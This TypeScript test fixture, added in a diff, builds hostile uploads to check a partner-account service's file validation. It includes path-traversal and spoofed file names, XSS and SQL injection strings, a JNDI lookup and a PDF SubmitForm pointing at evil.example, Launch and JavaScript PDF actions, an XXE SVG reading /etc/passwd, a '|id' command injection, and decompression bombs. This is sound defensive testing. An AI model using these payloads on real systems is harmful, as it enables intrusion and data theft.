@@ -1,0 +1,209 @@
+import { crc32, deflateSync } from "node:zlib";
+import type { ServerCode } from "@partner-konto/domain/error/server-codes";
+import type { MediaType } from "@partner-konto/domain/profile/schema";
+import sharp from "sharp";
+import { sampleFile } from "../profile/testing.ts";
+
+/** A file that pretends, and what must come of it. */
+export interface HostileFile {
+  what: string;
+  type: MediaType;
+  name: string;
+  data: Uint8Array;
+  outcome: ServerCode | "taken";
+}
+
+/** A body as any program may write it: the name stands there as it is. */
+export function rawUpload(name: string, data: Uint8Array): Buffer {
+  const head = `--x-x-x\r\ncontent-disposition: form-data; name="file"; filename="${name.replaceAll('"', "%22")}"\r\n\r\n`;
+  return Buffer.concat([Buffer.from(head), data, Buffer.from("\r\n--x-x-x--\r\n")]);
+}
+
+const text = (content: string): Buffer => Buffer.from(content, "latin1");
+const html = "<!doctype html><script>alert(document.cookie)</script>";
+const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
+
+/** A PDF of these objects; what stands in them is not looked at here. */
+function pdf(...extra: string[]): Buffer {
+  const objects = ["<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [] /Count 0>>", ...extra].map(
+    (object, at) => `${at + 1} 0 obj ${object} endobj\n`,
+  );
+  return text(`%PDF-1.7\n${objects.join("")}trailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);
+}
+
+function packed(content: string, filter = "/FlateDecode"): string {
+  const data = deflateSync(text(content)).toString("latin1");
+  return `<</Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length}>>\nstream\n${data}\nendstream`;
+}
+
+function chunk(kind: string, data: Buffer): Buffer {
+  const body = Buffer.concat([text(kind), data]);
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(data.length);
+  sum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, sum]);
+}
+
+/** A PNG that says it is so large, whatever follows. */
+function pngSaying(width: number, height: number, rows: Buffer = Buffer.alloc(4)): Buffer {
+  const head = Buffer.alloc(13);
+  head.writeUInt32BE(width, 0);
+  head.writeUInt32BE(height, 4);
+  head.set([1, 0, 0, 0, 0], 8);
+  const magic = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+  const ends = chunk("IEND", Buffer.alloc(0));
+  return Buffer.concat([magic, chunk("IHDR", head), chunk("IDAT", deflateSync(rows)), ends]);
+}
+
+function pictureOf(format: "jpeg" | "png" | "webp" | "gif" | "tiff" | "avif"): Promise<Buffer> {
+  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: "teal" } });
+  return picture[format]().toBuffer();
+}
+
+const names = [
+  "../../../etc/passwd",
+  "..\\..\\windows\\system32\\logo.png",
+  "/etc/cron.d/logo.png",
+  "C:\\autoexec.bat",
+  "....//....//logo.png",
+  "..",
+  ".",
+  ".htaccess",
+  "logo.png\u0000.exe",
+  "logo\u202Egnp.exe",
+  "logo\u2066.exe\u2069.png",
+  "\u200B\u200B",
+  "logo.php",
+  "logo.png.html",
+  "<img src=x onerror=alert(1)>.png",
+  "'; drop table profile; --.png",
+  "${jndi:ldap:/evil.example}.png",
+  "CON",
+  "a".repeat(250),
+  "\uFEFF logo.png",
+];
+
+const scripts: Record<string, string> = {
+  "a script at the start": "<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>",
+  "a script by a name in hex": "<</S /J#61vaScript /#4a#53 (x)>>",
+  "a program to launch": "<</S /Launch /F (cmd.exe)>>",
+  "a file inside": "<</Type /EmbeddedFile>>",
+  "a list of files inside": "<</Names <</EmbeddedFiles 4 0 R>>>>",
+  "a file specification with content": "<</Type /Filespec /EF <</F 4 0 R>>>>",
+  "further actions": "<</AA <</O <</S /URI>>>>>>",
+  "a form that sends itself": "<</S /SubmitForm /F (http://evil.example)>>",
+  "a form that reads data": "<</S /ImportData /F (x)>>",
+  "another document": "<</S /GoToR /F (\\\\\\\\evil.example\\\\x)>>",
+  "a document inside": "<</S /GoToE>>",
+  "rich media": "<</Subtype /RichMedia>>",
+  "an XFA form": "<</AcroForm <</XFA 4 0 R>>>>",
+  "a movie": "<</S /Movie>>",
+  "a sound": "<</S /Sound>>",
+  "a rendition": "<</S /Rendition>>",
+  "a password": "<</Encrypt 4 0 R>>",
+};
+
+function documents(): HostileFile[] {
+  const agb = (what: string, data: Uint8Array, outcome: HostileFile["outcome"]): HostileFile => ({
+    what: `a PDF with ${what}`,
+    type: "agb",
+    name: "agb.pdf",
+    data,
+    outcome,
+  });
+  const plain = sampleFile("agb");
+  const bomb = packed(`1 0 ${" ".repeat(60 * 1024 * 1024)}`);
+  return [
+    ...Object.entries(scripts).map(([what, object]) => agb(what, pdf(object), "PDF_NOT_PLAIN")),
+    ...Object.entries(scripts)
+      .slice(0, 8)
+      .map(([what, object]) => agb(`${what}, in a packed object`, pdf(packed(`4 0 ${object}`)), "PDF_NOT_PLAIN")),
+    agb("objects in an odd packing", pdf(packed("4 0 <<>>", "/LZWDecode")), "PDF_NOT_PLAIN"),
+    agb("objects in two packings", pdf(packed("4 0 <<>>", "[/ASCII85Decode /FlateDecode]")), "PDF_NOT_PLAIN"),
+    agb("a packed object that grows to 60 MB", pdf(bomb), "PDF_NOT_PLAIN"),
+    agb("a packed object that is none", broken(pdf(packed("4 0 <<>>"))), "PDF_NOT_PLAIN"),
+    agb("a packed plain object", pdf(packed("4 0 <</Type /Font>>")), "taken"),
+    agb("no end", plain.subarray(0, plain.length - 8), "FILE_NOT_A_PDF"),
+    agb("something before it", Buffer.concat([text(html), plain]), "FILE_NOT_A_PDF"),
+    agb("something after it", Buffer.concat([plain, text(html)]), "FILE_NOT_A_PDF"),
+    agb("an archive after it", Buffer.concat([plain, text("PK\u0003\u0004")]), "FILE_NOT_A_PDF"),
+    agb("nothing but its magic", text("%PDF-1.4\n%%EOF"), "FILE_NOT_A_PDF"),
+    agb("the form of a page of the web", text(html), "FILE_NOT_A_PDF"),
+    agb("the form of a program", Buffer.concat([text("MZ"), Buffer.alloc(200)]), "FILE_NOT_A_PDF"),
+    agb("6 MB", Buffer.concat([text("%PDF-1.4\n"), Buffer.alloc(6 * 1024 * 1024)]), "PAYLOAD_TOO_LARGE"),
+  ];
+}
+
+/** The packed bytes are damaged. */
+function broken(data: Uint8Array): Buffer {
+  const copy = Buffer.from(data);
+  const at = copy.indexOf("stream\n") + "stream\n".length;
+  copy.fill(0xff, at, at + 4);
+  return copy;
+}
+
+/** Files in the form of the stories one reads: each lies about what it is, how large it is, or what it is called. */
+export async function hostileFiles(): Promise<HostileFile[]> {
+  const [jpeg, png, webp, gif, tiff, avif] = await Promise.all(
+    (["jpeg", "png", "webp", "gif", "tiff", "avif"] as const).map((format) => pictureOf(format)),
+  );
+  const logo = (what: string, data: Uint8Array | undefined, outcome: HostileFile["outcome"]): HostileFile => ({
+    what,
+    type: "logo",
+    name: "logo.png",
+    data: data ?? Buffer.alloc(0),
+    outcome,
+  });
+  const not = "FILE_NOT_A_PICTURE";
+  const whole = { jpeg: jpeg ?? Buffer.alloc(0), png: png ?? Buffer.alloc(0), webp: webp ?? Buffer.alloc(0) };
+  const located = await sharp(whole.jpeg)
+    .withExif({
+      IFD3: { GPSLatitude: "53/1 15/1 0/1", GPSLatitudeRef: "N" },
+      IFD0: { Copyright: "<script>x</script>" },
+    })
+    .toBuffer();
+  const pictures = [
+    logo("an SVG", text(svg), not),
+    logo(
+      "an SVG with a head of XML",
+      text(`<?xml version="1.0"?><!DOCTYPE svg SYSTEM "file:///etc/passwd">${svg}`),
+      not,
+    ),
+    logo("an SVG in packed form", deflateSync(text(svg)), not),
+    logo("a page of the web called a picture", text(html), not),
+    logo("a GIF", gif, not),
+    logo("a TIFF", tiff, not),
+    logo("an AVIF", avif, not),
+    logo("a BMP", Buffer.concat([text("BM"), Buffer.alloc(100)]), not),
+    logo("an icon", Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(100)]), not),
+    logo("a drawing in PostScript", text("%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n"), not),
+    logo("instructions for a drawing program", text("push graphic-context\nimage over 0,0 0,0 '|id'\n"), not),
+    logo("a PDF called a picture", sampleFile("agb"), not),
+    logo("an archive", Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(100)]), not),
+    logo("a program", Buffer.concat([text("\u007FELF"), Buffer.alloc(100)]), not),
+    logo(
+      "the magic of a JPEG and a page of the web",
+      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(html)]),
+      not,
+    ),
+    logo("the magic of a PNG and nothing", whole.png.subarray(0, 8), not),
+    logo("half a JPEG", whole.jpeg.subarray(0, whole.jpeg.length / 2), not),
+    logo("half a PNG", whole.png.subarray(0, whole.png.length / 2), not),
+    logo("half a WebP", whole.webp.subarray(0, whole.webp.length / 2), not),
+    logo("one byte", Buffer.from([0xff]), not),
+    logo("nothing", Buffer.alloc(0), "INVALID_INPUT"),
+    logo("6 MB of nothing", Buffer.alloc(6 * 1024 * 1024), "PAYLOAD_TOO_LARGE"),
+    logo("one point that says 30,000 by 30,000", pngSaying(30_000, 30_000), "PICTURE_TOO_LARGE"),
+    logo("a picture of 25 million points and one row", pngSaying(5000, 5001), "PICTURE_TOO_LARGE"),
+    logo(
+      "a picture that grows from kilobytes",
+      pngSaying(20_000, 20_000, Buffer.alloc(50_000_000)),
+      "PICTURE_TOO_LARGE",
+    ),
+    logo("a JPEG with a script after its end", Buffer.concat([whole.jpeg, text(html)]), "taken"),
+    logo("a PNG with an archive after its end", Buffer.concat([whole.png, text("PK\u0003\u0004<script>")]), "taken"),
+    logo("a JPEG that says where it was made, and a script as its owner", located, "taken"),
+  ];
+  const named = names.map((name) => ({ ...logo(`the name ${JSON.stringify(name)}`, whole.png, "taken"), name }));
+  return [...pictures, ...named, ...documents()];
+}
